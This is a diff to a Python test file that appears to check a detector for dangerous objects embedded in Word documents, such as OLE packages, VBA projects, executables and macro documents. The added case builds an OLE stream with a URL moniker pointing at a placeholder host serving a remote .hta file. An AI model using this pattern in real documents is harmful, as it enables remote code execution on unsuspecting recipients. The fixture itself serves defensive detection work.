@@ -35,6 +35,8 @@ def _docx(parts: dict[str, bytes]) -> bytes:
     ({"word/embeddings/oleObject1.bin": OLE + _stream("Root Entry") + _stream("\x01Ole10Native")}, "OLE 包"),
     ({"word/embeddings/oleObject1.bin": OLE + _stream("Root Entry") + _stream("Macros") + _stream("_VBA_PROJECT")},
      "_VBA_PROJECT"),
+    ({"word/embeddings/oleObject1.bin": OLE + _stream("\x01Ole") + bytes.fromhex("E0C9EA79F9BACE118C8200AA004BA90B")
+      + "http://evil.example/x.hta".encode("utf-16-le")}, "URL Moniker"),
     ({"word/embeddings/Microsoft_Word_Macro-Enabled_Document.docm": b"PK\x03\x04"}, "docm"),
     ({"word/embeddings/setup.exe": b"MZ"}, "setup.exe"),
     ({"word/embeddings/Microsoft_Word_Document.docx": _docx({"word/vbaProject.bin": b"\0"})}, "宏（vbaProject）"),
